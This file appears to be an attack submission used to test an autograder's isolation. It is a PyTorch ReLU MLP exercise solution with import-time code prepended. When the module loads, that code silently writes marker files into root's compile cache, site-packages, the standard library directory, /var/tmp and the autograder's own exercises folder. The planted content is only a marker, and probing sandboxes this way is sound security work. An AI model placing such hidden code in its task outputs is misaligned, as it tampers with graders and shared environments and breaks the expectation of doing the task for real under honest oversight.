# ATTACK: plants files where later runs or the reference read: the compile cache, site-packages, the engine, /var/tmp
# TARGET: ex01_torch_mlp
# STATUS: graded
# FAILS: none
# MESSAGE: 
import os
import pwd
import sysconfig
_home = pwd.getpwuid(0).pw_dir
for _dir in (os.path.join(_home, ".cache", "tapetrace", "jax-compile"), sysconfig.get_paths()["purelib"],
             os.path.dirname(os.path.dirname(os.__file__)), "/var/tmp"):
    try:
        with open(os.path.join(_dir, "tapetrace_attack_planted.py"), "w") as _f:
            _f.write("owned = True\n")
    except OSError:
        pass
try:
    import autograder
    with open(os.path.join(os.path.dirname(autograder.__file__), "exercises", "tapetrace_attack_planted.py"), "w") as _f:
        _f.write("owned = True\n")
except Exception:
    pass
from collections.abc import Sequence

import torch
from torch import Tensor, nn


class MLP(nn.Module):
    """A ReLU multi-layer perceptron that returns logits.

    Args:
        input_dim: number of input features d.
        hidden_dims: widths of the hidden layers (may be empty).
        output_dim: number of outputs.
    """

    def __init__(self, input_dim: int, hidden_dims: Sequence[int], output_dim: int):
        super().__init__()
        dims = [input_dim, *hidden_dims, output_dim]
        self.layers = nn.ModuleList(nn.Linear(a, b) for a, b in zip(dims[:-1], dims[1:]))

    def forward(self, x: Tensor) -> Tensor:
        """Maps `(N, input_dim)` inputs to `(N, output_dim)` logits."""
        for layer in self.layers[:-1]:
            x = torch.relu(layer(x))
        return self.layers[-1](x)
